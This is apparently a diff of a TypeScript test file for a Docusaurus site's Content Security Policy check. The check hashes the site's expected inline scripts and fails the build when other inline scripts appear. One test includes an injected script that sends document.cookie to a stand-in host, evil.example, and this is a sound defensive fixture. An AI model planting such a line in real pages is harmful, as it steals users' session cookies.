@@ -1,41 +1,9 @@
 import {test} from 'node:test';
 import assert from 'node:assert/strict';
-import {execFileSync} from 'node:child_process';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
-import themeClassic from '@docusaurus/theme-classic';
-import type {LoadContext} from '@docusaurus/types';
-import {startScript} from '../../plugins/performance/start-after-paint';
-import {baseUrlBannerScript, cspHash, findInlineScripts, intendedInlineScriptHashes} from '../../scripts/inline-scripts';
-
-/** The theme's inline script as theme-classic writes it for this site's colour-mode settings. */
-function siteThemeScript(namespace: string): string {
-  const context = {
-    i18n: {currentLocale: 'en', localeConfigs: {en: {direction: 'ltr'}}},
-    siteStorage: {type: 'localStorage', namespace},
-    siteConfig: {
-      themeConfig: {
-        colorMode: {defaultMode: 'light', disableSwitch: false, respectPrefersColorScheme: false},
-        announcementBar: {},
-        prism: {},
-      },
-    },
-    siteDir: '.',
-  } as unknown as LoadContext;
-  const tags = themeClassic(context, {customCss: []} as never).injectHtmlTags?.({content: undefined});
-  const tag = (tags as {preBodyTags: {tagName: string; innerHTML: string}[]}).preBodyTags.find((t) => t.tagName === 'script');
-  return tag!.innerHTML;
-}
-
-/** A page as the production build writes it: minified by Docusaurus' SWC HTML minifier. */
-function builtPage(body: string): string {
-  const minifier = path.resolve(__dirname, '../../scripts/minify-html.cjs');
-  return execFileSync(process.execPath, [minifier, 'swc'], {
-    input: `<!doctype html><html><head></head><body>${body}</body></html>`,
-    encoding: 'utf8',
-  });
-}
+import {appRootRange, cspHash, findInlineScripts, inlineScriptsOf, intendedInlineScriptHashes} from '../../scripts/inline-scripts';
 
 function site(pages: Record<string, string>): string {
   const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'site-'));
@@ -46,41 +14,38 @@ function site(pages: Record<string, string>): string {
   return dir;
 }
 
-const intendedBody = (namespace: string) => `<script>${siteThemeScript(namespace)}</script><p>Text</p><script>${startScript}</script>`;
+/** A page in the shape Docusaurus writes (minified, attributes unquoted): head, pre-body scripts, app root, bundles. */
+const page = (app: string, {head = '', before = '', after = ''} = {}) =>
+  `<!doctype html><html lang=en><head>${head}<script src=/assets/js/main.js defer></script></head>` +
+  `<body class=navigation-with-keyboard>${before}<div id=__docusaurus>${app}</div>${after}</body></html>`;
 
-test('the theme script and the start-after-paint script, as the build minifies them, are recognised and hashed', () => {
-  const en = builtPage(intendedBody('-604'));
-  const de = builtPage(intendedBody('-742'));
-  const root = site({'index.html': en, 'docs/index.html': en, 'de/index.html': de});
-  const scripts = [...findInlineScripts(root).keys()];
-  assert.equal(scripts.length, 3, 'the theme script differs per locale (storage namespace); the start script is the same');
-  assert.ok(!scripts.includes(startScript), 'the fixture holds the minified start script, not its source');
-  assert.deepEqual(intendedInlineScriptHashes(root), scripts.map(cspHash).sort());
-});
+const theme =
+  '!function(){var t=localStorage.getItem("theme-extension-docs");document.documentElement.setAttribute("data-theme",t||"light")}()';
+const banner = 'document.addEventListener("DOMContentLoaded",function(){void 0===window.docusaurus&&insertBanner()})';
+const start = '!function(){var e=!1;function n(){e||(e=!0,start())}requestAnimationFrame(n)}()';
+const app = '<nav><div class=navbar><div>Menu</div></div></nav><main><div><p>Text</p><div><div></div></div></div></main>';
 
-test("the home pages' base-URL banner (SPEC §8) is recognised for each locale's base URL, and only for those", () => {
-  const banner = (baseUrl: string) => `<script data-rh=true>${baseUrlBannerScript(baseUrl)}</script>`;
-  assert.match(baseUrlBannerScript('/de/'), /did not load properly[\s\S]*\/de\//);
-  const root = site({'index.html': builtPage(banner('/')), 'de/index.html': builtPage(banner('/de/'))});
-  assert.equal(intendedInlineScriptHashes(root).length, 2);
-  const other = site({'index.html': builtPage(banner('/docs/'))});
-  assert.throws(() => intendedInlineScriptHashes(other), /index\.html/);
-});
-
-test('external scripts and JSON-LD data are not inline scripts', () => {
+test('scripts of the template and the plugins, around the app, are hashed whatever their text', () => {
   const root = site({
-    'index.html':
-      '<html><head><script src=/assets/js/main.js defer></script><script data-rh=true type=application/ld+json>{"a":1}</script></head><body><script></script></body></html>',
+    'index.html': page(app, {
+      head: `<script data-rh=true>${banner}</script>`,
+      before: `<script>${theme}</script>`,
+      after: `<script>${start}</script>`,
+    }),
+    'docs/index.html': page(app, {before: `<script>${theme}</script>`, after: `<script>${start}</script>`}),
   });
-  assert.equal(findInlineScripts(root).size, 0);
-  assert.deepEqual(intendedInlineScriptHashes(root), []);
+  assert.deepEqual(intendedInlineScriptHashes(root), [banner, theme, start].map(cspHash).sort());
+  assert.deepEqual(findInlineScripts(root).get(theme), ['docs/index.html', 'index.html']);
 });
 
-test('any other inline script stops the rendering, naming the files that hold it', () => {
+test('an inline script inside the app stops the build, naming the pages that hold it', () => {
+  const evil = 'fetch("https://evil.example/?"+document.cookie)';
   const root = site({
-    'index.html': builtPage(intendedBody('-604')),
-    'docs/srb/welcome/index.html': builtPage(`${intendedBody('-604')}<script>fetch("https://evil.example/?"+document.cookie)</script>`),
-    'blog/index.html': builtPage('<script type=module>import("/x.js")</script>'),
+    'index.html': page(app, {before: `<script>${theme}</script>`}),
+    'docs/srb/welcome/index.html': page(`<main><div><p>Text</p><script>${evil}</script></div></main>`, {
+      before: `<script>${theme}</script>`,
+    }),
+    'blog/index.html': page('<main><div><script type=module>import("/x.js")</script></div></main>'),
   });
   assert.throws(
     () => intendedInlineScriptHashes(root),
@@ -93,7 +58,31 @@ test('any other inline script stops the rendering, naming the files that hold it
   );
 });
 
-test('a changed start script is not mistaken for the intended one', () => {
-  const root = site({'index.html': builtPage(`<script>${startScript.replace('3000', '30')}</script>`)});
-  assert.throws(() => intendedInlineScriptHashes(root), /index\.html/);
+test('the app root ends at its own closing tag: nested divs, and "<div" inside scripts and comments, do not count', () => {
+  const html = page(`<div><script>var s="<div>";</script><!-- <div> --><style>.x{content:"</div>"}</style></div><p>x</p>`, {
+    after: `<script>${start}</script>`,
+  });
+  const [begin, end] = appRootRange(html)!;
+  assert.ok(html.slice(begin, end).endsWith('<p>x</p></div>'), html.slice(begin, end));
+  assert.deepEqual(
+    inlineScriptsOf(html).map((s) => [s.script, s.insideApp]),
+    [
+      ['var s="<div>";', true],
+      [start, false],
+    ],
+  );
+});
+
+test('external scripts and JSON-LD data are not inline scripts', () => {
+  const root = site({
+    'index.html': page('<script type=application/ld+json>{"a":1}</script><script></script>', {
+      head: '<script data-rh=true type=application/ld+json>{"a":1}</script>',
+    }),
+  });
+  assert.equal(findInlineScripts(root).size, 0);
+  assert.deepEqual(intendedInlineScriptHashes(root), []);
+});
+
+test('a page without an app root (a file Docusaurus did not render) has no scripts inside the app', () => {
+  assert.deepEqual(inlineScriptsOf(`<html><body><script>${start}</script></body></html>`), [{script: start, insideApp: false}]);
 });
